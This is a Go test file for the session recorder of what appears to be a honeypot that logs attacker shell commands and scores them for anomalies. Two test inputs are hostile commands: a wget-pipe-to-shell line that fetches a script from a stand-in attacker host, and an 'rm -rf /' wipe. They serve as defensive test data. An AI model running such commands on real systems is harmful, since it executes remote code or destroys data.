package recorder

import (
	"errors"
	"sync"
	"testing"

	"github.com/google/uuid"

	"lurecage/internal/anomaly"
	"lurecage/internal/feature"
	"lurecage/internal/schema"
	"lurecage/internal/store"
)

func newTestRecorder(t *testing.T, log ExchangeWriter) (*Recorder, *store.Store, *anomaly.Scorer) {
	t.Helper()
	st := store.New(store.DefaultConfig(), nil, nil)
	scorer := anomaly.NewScorer(schema.DefaultBands())
	return New(st, scorer, log), st, scorer
}

func trainScorer(t *testing.T, scorer *anomaly.Scorer) {
	t.Helper()
	routine := []string{
		"ls", "ls -la", "pwd", "whoami", "id", "uname -a",
		"cat readme.txt", "df -h", "uptime", "date", "free -m",
		"ps aux", "history", "env", "echo hello",
	}
	vectors := make([]schema.FeatureVector, 0, len(routine)*4)
	for i := 0; i < 4; i++ {
		for _, cmd := range routine {
			vectors = append(vectors, feature.Extract(cmd))
		}
	}
	model, err := anomaly.Fit(anomaly.DefaultForestConfig(), vectors, 1)
	if err != nil {
		t.Fatalf("Fit() error = %v", err)
	}
	scorer.Swap(model)
}

func TestOpenRecordClose(t *testing.T) {
	rec, st, scorer := newTestRecorder(t, nil)
	trainScorer(t, scorer)

	id, err := rec.Open("203.0.113.7:50412")
	if err != nil {
		t.Fatalf("Open() error = %v", err)
	}

	ex, err := rec.Record(id, "wget http://evil.example/x.sh | sh", true)
	if err != nil {
		t.Fatalf("Record() error = %v", err)
	}
	if ex.Command != "wget http://evil.example/x.sh | sh" {
		t.Errorf("Command = %q", ex.Command)
	}
	if ex.Response == "" {
		t.Error("Response not populated")
	}
	if ex.Score <= 0 || ex.ModelVersion != 1 {
		t.Errorf("scoring not applied: score=%v version=%d", ex.Score, ex.ModelVersion)
	}
	if !ex.Truncated {
		t.Error("Truncated flag lost")
	}
	if len(ex.Keywords) == 0 {
		t.Error("Keywords not extracted")
	}

	if err := rec.Close(id); err != nil {
		t.Fatalf("Close() error = %v", err)
	}

	sess, err := st.GetSession(id)
	if err != nil {
		t.Fatalf("GetSession() error = %v", err)
	}
	if !sess.Closed() || len(sess.Exchanges) != 1 {
		t.Errorf("stored session: closed=%v exchanges=%d", sess.Closed(), len(sess.Exchanges))
	}
	if rec.Recorded() != 1 {
		t.Errorf("Recorded() = %d, want 1", rec.Recorded())
	}
}

func TestRecordWithoutModel(t *testing.T) {
	rec, _, _ := newTestRecorder(t, nil)

	id, err := rec.Open("198.51.100.9:2201")
	if err != nil {
		t.Fatalf("Open() error = %v", err)
	}
	ex, err := rec.Record(id, "rm -rf / --no-preserve-root", false)
	if err != nil {
		t.Fatalf("Record() error = %v", err)
	}
	if ex.Score != 0 || ex.ModelVersion != 0 {
		t.Errorf("untrained scorer fabricated a score: %v v%d", ex.Score, ex.ModelVersion)
	}
	if ex.Level != schema.ThreatLow {
		t.Errorf("Level = %s, want %s", ex.Level, schema.ThreatLow)
	}
}

func TestRecordUnknownSession(t *testing.T) {
	rec, _, _ := newTestRecorder(t, nil)

	if _, err := rec.Record(uuid.New(), "ls", false); !errors.Is(err, store.ErrSessionNotFound) {
		t.Errorf("Record(unknown) error = %v, want ErrSessionNotFound", err)
	}
}

func TestRecordAfterClose(t *testing.T) {
	rec, _, _ := newTestRecorder(t, nil)

	id, _ := rec.Open("192.0.2.4:40000")
	if err := rec.Close(id); err != nil {
		t.Fatalf("Close() error = %v", err)
	}
	if _, err := rec.Record(id, "ls", false); !errors.Is(err, store.ErrSessionClosed) {
		t.Errorf("Record(closed) error = %v, want ErrSessionClosed", err)
	}
}

type captureWriter struct {
	mu    sync.Mutex
	addrs []string
	fail  bool
}

func (w *captureWriter) Write(_ uuid.UUID, sourceAddr string, _ schema.Exchange) error {
	w.mu.Lock()
	defer w.mu.Unlock()
	if w.fail {
		return errors.New("sink down")
	}
	w.addrs = append(w.addrs, sourceAddr)
	return nil
}

func TestRecordForwardsToExchangeWriter(t *testing.T) {
	log := &captureWriter{}
	rec, _, _ := newTestRecorder(t, log)

	id, _ := rec.Open("203.0.113.50:33312")
	if _, err := rec.Record(id, "whoami", false); err != nil {
		t.Fatalf("Record() error = %v", err)
	}

	log.mu.Lock()
	defer log.mu.Unlock()
	if len(log.addrs) != 1 || log.addrs[0] != "203.0.113.50:33312" {
		t.Errorf("writer received %v", log.addrs)
	}
}

func TestRecordSurvivesWriterFailure(t *testing.T) {
	rec, st, _ := newTestRecorder(t, &captureWriter{fail: true})

	id, _ := rec.Open("203.0.113.51:33313")
	if _, err := rec.Record(id, "whoami", false); err != nil {
		t.Fatalf("Record() error = %v, want nil despite writer failure", err)
	}
	sess, err := st.GetSession(id)
	if err != nil {
		t.Fatalf("GetSession() error = %v", err)
	}
	if len(sess.Exchanges) != 1 {
		t.Errorf("exchange not stored: %d", len(sess.Exchanges))
	}
}
